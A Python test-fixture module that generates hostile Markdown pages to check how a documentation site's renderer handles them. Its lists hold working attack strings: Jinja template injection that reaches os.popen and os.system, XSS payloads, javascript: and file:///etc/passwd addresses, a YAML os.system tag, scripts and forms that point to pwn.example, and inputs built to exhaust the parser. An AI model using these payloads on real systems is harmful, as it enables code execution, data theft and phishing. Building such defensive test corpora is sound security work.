"""Hostile pages by class: what is tried, where it is put, and the pages that come of it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

HEAD = """\
---
description: What to know about the page before you read all of it.
sources_checked: 2026-01-05
review_due: 2027-01-05
---
"""
TITLE = "\n# Title\n\n"

TEMPLATES = [
    "{{ lipsum.__globals__['os'].popen('touch ran').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}",
    "{{ joiner.__init__.__globals__.os.system('touch ran') }}",
    "{{ namespace.__init__.__globals__.os.system('touch ran') }}",
    "{{ self.__init__.__globals__.__builtins__.open('ran', 'w') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}",
    "{{ page.title }}",
    "{{ 7 * 7 }}",
    '{{ cite("a" * 1000000000) }}',
    '{{ cite("lake-" ~ "2021") }}',
    '{{ cite("lake-2021" | upper) }}',
    '{{ cite(*["lake-2021"]) }}',
    "{{ cite(x) }}",
    '{{ cite("lake-2021").__class__ }}',
    '{{ cite("a{{b}}") }}',
    "{% set x = 1 %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% for x in range(1000000000) %}x{% endfor %}",
    "{% raw %}<script>document.title='owned'</script>{% endraw %}",
    "{% autoescape false %}x{% endautoescape %}",
    "{% macro f() %}x{% endmacro %}",
    "{# a comment #}",
    "{# never closed",
    "{{ ((((((((1)))))))) }}",
    "{{ -----1 }}",
    "{{ a.b.b.b.b.b }}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{{{{ }}}}",
    "{{ cite('lake-2021' }}",
    '{{ cite("lake-2021") }',
    "<scr{# #}ipt>document.title='owned'</scr{# #}ipt>",
    "<scr{% raw %}ipt>document.title='owned'</scr{% endraw %}ipt>",
]

HTML = [
    "<script>document.title='owned'</script>",
    "<ScRiPt>document.title='owned'</sCrIpT>",
    "<script src=https://pwn.example/x.js></script>",
    "<img src=x onerror=document.title='owned'>",
    "<img src=x title=a``b onerror=document.title='owned'>",
    "<svg/onload=document.title='owned'>",
    "<svg onload=`document.title='owned'`></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>body { display: none }</style>",
    "<form action=https://pwn.example/><input placeholder='Your phone number'></form>",
    "<base href=https://pwn.example/>",
    "<meta http-equiv=refresh content='0;url=https://pwn.example/'>",
    "<object data=https://pwn.example/></object>",
    "<a href=https://pwn.example/ onclick=document.title='owned'>x</a>",
    "<details open ontoggle=document.title='owned'><summary>x</summary></details>",
    "<template><script>document.title='owned'</script></template>",
    "<!-- a comment -->",
    "<!--><script>document.title='owned'</script>-->",
    "<![CDATA[<script>document.title='owned'</script>]]>",
    "<?php system('touch ran') ?>",
    "<!DOCTYPE html>",
    "<p style=position:fixed>x</p>",
    "<b>bold</b>",
    "</article>",
]

SHOWN_IN = {
    "a code span": "Word `` {} `` here.\n",
    "a fence": "```\n{}\n```\n",
    "a fence with a language": "```html\n{}\n```\n",
    "indented code": "Text.\n\n    {}\n",
    "a fence that is indented by three": "   ```\n   {}\n   ```\n",
    "a fence in a box": '!!! note "Box"\n\n    ```\n    {}\n    ```\n',
}
"""Places in which anything may be shown; nothing there is run."""

REFUSED_IN = {
    "a paragraph": "Some words {} here.\n",
    "a line of its own": "{}\n",
    "two paragraphs": "One.\n\n{}\n\nTwo.\n",
    "a heading": "## A heading {}\n",
    "an underlined heading": "A heading {}\n---\n",
    "a list": "- one\n- {}\n",
    "a numbered list": "1. one\n2. {}\n",
    "a list after a deep indent": "- one\n\n      {}\n",
    "a numbered list after a deep indent": "1. one\n\n       {}\n",
    "a nested list after a deep indent": "- one\n\n    - two\n\n          {}\n",
    "a quote": "> {}\n",
    "strong words": "**{}**\n",
    "the title of a box": '!!! note "Good {}"\n\n    Text.\n',
    "the title of a closed box": '??? note "{}"\n\n    Text.\n',
    "the title of an open box": '???+ note "{}"\n\n    Text.\n',
    "the title of a tab": '=== "{}"\n\n    Text.\n',
    "what looks like a box": '!!! "{}"\n',
    "what looks like a box in a paragraph": 'Some words\n!!! note "{}"\nmore\n',
    "what looks like a tab": '=== x "{}"\n',
    "what looks like a box with more": '!!! "{}"x"\n',
    "a box": '!!! note "Box"\n\n    {}\n',
    "a tab": '=== "Tab"\n\n    {}\n',
    "what looks like a fence with three words": "``` one two three\n{}\n```\n",
    "what looks like a fence with signs": "```a:b\n{}\n```\n",
    "what looks like a fence with a comma": "```a,b\n{}\n```\n",
    "what looks like a fence with an angle": "```<x>\n{}\n```\n",
    "what looks like a fence with an option": '```js foo=bar"\n{}\n```\n',
    "what looks like a fence of tildes": "~~~ one two\n{}\n~~~\n",
    "what looks like a fence of tildes with a backtick": "~~~ a`b\n{}\n~~~\n",
    "what looks like a fence with a quote": '```"\n{}\n```\n',
    "a fence in a list item": "- ```\n  {}\n  ```\n",
    "a link definition over two lines": '[z]: x "{}\n"\n',
    "the words of a link": "[{}](https://example.org/)\n",
    "the address of a link": "[x](<{}>)\n",
    "the title of a link": "[x](https://example.org/ '{}')\n",
    "the text of a picture": "![{}](picture.png)\n",
    "an escaped code span": "\\`{}\\`\n",
    "unequal backticks": "``{}`\n",
    "a comment that makes a fence": "{{#\n```\n#}}\n{}\n{{#\n```\n#}}\n",
    "after a definition": "[z]: https://example.org/\n{}\n",
    "a table": "| a | b |\n| - | - |\n| {} | c |\n",
    "an abbreviation": "*[ABC]: {}\n",
}

ATTRIBUTES = [
    "{: onclick=document.title='owned' }",
    "{: onerror=document.title='owned' }",
    '{: style="position:fixed;inset:0" }',
    "{: .guide-care }",
    "{: hidden=hidden }",
    "{: aria-hidden=true role=alert }",
    "{: contenteditable=true }",
    "{: dir=rtl }",
    "{: #__search }",
    '{: id="guide-kept" }',
    "{: autofocus onfocus=document.title='owned' }",
    "{: href=https://pwn.example/ }",
    "{: ping=https://pwn.example/ }",
    "{: target=_blank }",
    "{: download=x.exe }",
    "{: srcset=https://pwn.example/x.png }",
]
ATTRIBUTES_ON = {
    "emphasis": "One *word*{} here.\n",
    "a paragraph": "A paragraph.\n{}\n",
    "a heading": "## A heading {}\n",
    "a list": "- one\n- two\n{}\n",
    "a link": "[x](https://example.org/){}\n",
    "a picture": "![p](picture.png){}\n",
    "code": "`code`{}\n",
    "a quote": "> quote\n{}\n",
}

ADDRESSES = [
    "javascript:document.title='owned'",
    "JaVaScRiPt:document.title='owned'",
    "javascript&#58;document.title='owned'",
    "&#x6a;avascript:document.title='owned'",
    "java&#9;script:document.title='owned'",
    "vbscript:msgbox(1)",
    "data:text/html,<script>document.title='owned'</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "view-source:https://example.org/",
    "intent://x#Intent;end",
    "ftp://example.org/",
    "//pwn.example/",
    "\\\\pwn.example\\x.md",
    "https:\\\\pwn.example",
]
LINKED_BY = {
    "a link": "[go there now]({})\n",
    "a link in angles": "[go there now](<{}>)\n",
    "a reference": "[go there now][z]\n\n[z]: {}\n",
    "an autolink": "<{}>\n",
    "a link in a heading": "## [go there now]({})\n",
    "a link in a list": "- [go there now]({})\n",
    "a link in a box": '!!! note "x"\n\n    [go there now]({})\n',
}
PICTURES = [
    "https://pwn.example/x.png",
    "http://pwn.example/x.png",
    "//pwn.example/x.png",
    "data:image/svg+xml,<svg/>",
    "javascript:document.title='owned'",
    "/x.png",
    "page.html",
    "x.png?y=z.js",
]
BOXES = ["guide-care", "note guide-care", "hidden", "guide-kept", 'note" onclick="x', "tabbed-set"]

CHARACTERS = [0x00, 0x01, 0x07, 0x08, 0x1B, 0x7F, 0x85, 0x9B, 0xAD, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F]
CHARACTERS += [0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2028, 0x2029, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069]
CHARACTERS += [0xE000, 0xE0041, 0xE007F, 0xFEFF, 0xFFFE, 0xF0000, 0x61C, 0x180E]

FRONT_MATTER = {
    "dots": HEAD.replace("review_due", "...\n# Notes {{ lipsum }}\nreview_due"),
    "dots at the end": HEAD.replace("---\n", "...\n").replace("...\n", "---\n", 1),
    "dots and a script": HEAD.removesuffix("---\n") + "...\n# <script>document.title='owned'</script>\n---\n",
    "a tag": HEAD.replace("What to", "!!python/name:os.system What to"),
    "an object": HEAD.replace("What to", "!!python/object/apply:os.system ['touch ran'] #"),
    "another key": HEAD.replace("review_due", "template: x.html\nreview_due"),
    "render_macros": HEAD.replace("review_due", "render_macros: true\nreview_due"),
    "title": HEAD.replace("review_due", "title: '{{ lipsum }}'\nreview_due"),
    "HTML": HEAD.replace("What to", "<script>document.title='owned'</script> What to"),
    "an anchor that is no id": HEAD.replace("review_due", "anchors:\n  'x\" onclick=\"y': Title\nreview_due"),
    "an anchor without its heading": HEAD.replace("review_due", "anchors:\n  more: Nowhere\nreview_due"),
    "none": "",
    "MultiMarkdown": "description: What to know about the page before you read all of it.\n\n",
    "spaces before": " " + HEAD,
    "two": HEAD + HEAD,
}


def _lines(piece: str, apart: str = "\n") -> str:
    """Repeat a text on lines that are just short enough, on a page that is just small enough."""
    line = piece * (1_900 // len(piece)) + apart
    return line * (95_000 // len(line))


SIGNS = [
    "<",
    "&",
    "[",
    "![",
    "|",
    "*a ",
    "_a",
    "**a",
    "`",
    "{",
    "{{",
    "{:",
    "&#",
    "::",
    "<a ",
    "<!--",
    "<![",
    "\\",
    "](",
    ")(",
]
SIGNS += [
    "#",
    "~",
    "!",
    "- ",
    "> ",
    "1. ",
    "a. ",
    "x",
    "https://",
    "<https://a",
    "[a][b] ",
    "\t",
    '{{ cite("a") }}',
    "⟦",
    "é",
]

SLOW = {
    **{f"lines of {sign!r}": _lines(sign) for sign in SIGNS},
    **{f"paragraphs of {sign!r}": _lines(sign, "\n\n") for sign in SIGNS},
    **{f"as many {sign!r} as may be": _lines(sign)[: 480 * len(sign)] for sign in SIGNS},
    "a line of angles": "<" * 20_000,
    "one large page": "word " * 1_000_000,
    "many short lines": "a.\n" * 100_000,
    "short lines": "a.\n" * 1_900,
    "short paragraphs": "a.\n\n" * 900,
    "unlike paragraphs": "".join(f"a{n}.\n\n- b\n" for n in range(600)),
    "unequal backticks": "\n".join("`" * n + "a " for n in range(1, 60)),
    "deep quotes": ">" * 1_900 + " x",
    "deep lists": "".join("    " * n + "- x\n" for n in range(200)),
    "lists as deep as may be": "".join("    " * n + "- x\n" for n in range(14)),
    "deep lists in a line": "- " * 900 + "x",
    "boxes as deep as may be": "".join("    " * n + '!!! note "x"\n' for n in range(14)),
    "a call without an end": "{{ cite(" + '"x",' * 450,
    "a call with spaces": "{{ cite(" + " " * 1_900,
    "headings": "# a\n" * 490,
    "underlined headings": "a\n-\n\n" * 600,
    "definitions": "".join(f"[a{n}]: b\n" for n in range(900)),
    "fences": "```\n" * 600,
    "open fences": "".join("`" * (3 + n) + "\n" for n in range(55)),
}
"""Pages that are large, deep, or made to be tried in many ways; each is read or refused, and soon."""


@dataclass(frozen=True)
class Attempt:
    """One hostile page."""

    name: str
    page: str
    shown: bool = False
    """Whether it may be published, because it only shows what it holds."""

    @property
    def body_line(self) -> int:
        """The first line of its body."""
        return self.page.count("\n", 0, len(HEAD)) + 1


def attempts() -> Iterator[Attempt]:
    """Return every page of the corpus but the slow ones."""
    for kind, payloads in (("template", TEMPLATES), ("html", HTML)):
        for number, payload in enumerate(payloads):
            for place, frame in SHOWN_IN.items():
                text = frame.format(payload) if "``" not in payload or "span" not in place else f"```` {payload} ````\n"
                yield Attempt(f"{kind} {number} in {place}", HEAD + TITLE + text, shown=True)
            for place, frame in REFUSED_IN.items():
                yield Attempt(f"{kind} {number} in {place}", HEAD + TITLE + frame.format(payload))
    for number, payload in enumerate(ATTRIBUTES):
        for place, frame in ATTRIBUTES_ON.items():
            yield Attempt(f"attributes {number} on {place}", HEAD + TITLE + frame.format(payload))
    for number, address in enumerate(ADDRESSES):
        for place, frame in LINKED_BY.items():
            if place == "an autolink" and address.startswith("\\"):
                continue  # Plain text, which leads nowhere.
            yield Attempt(f"address {number} in {place}", HEAD + TITLE + frame.format(address))
    for number, address in enumerate(PICTURES):
        yield Attempt(f"picture {number}", f"{HEAD}{TITLE}![a picture]({address})\n")
        yield Attempt(f"picture {number} by name", f"{HEAD}{TITLE}![a picture][z]\n\n[z]: {address}\n")
    for number, kind in enumerate(BOXES):
        for mark in ("!!!", "???", "???+"):
            yield Attempt(f"box {number} {mark}", f'{HEAD}{TITLE}{mark} {kind} "Title"\n\n    Text.\n')
    for code in CHARACTERS:
        for form, text in (("typed", chr(code)), ("as an entity", f"&#{code};"), ("in hex", f"&#x{code:x};")):
            yield Attempt(f"character {code:04X} {form}", f"{HEAD}{TITLE}Dial 1-800{text}-555 now.\n")
    for name, head in FRONT_MATTER.items():
        yield Attempt(f"front matter: {name}", head + TITLE + "Text.\n")
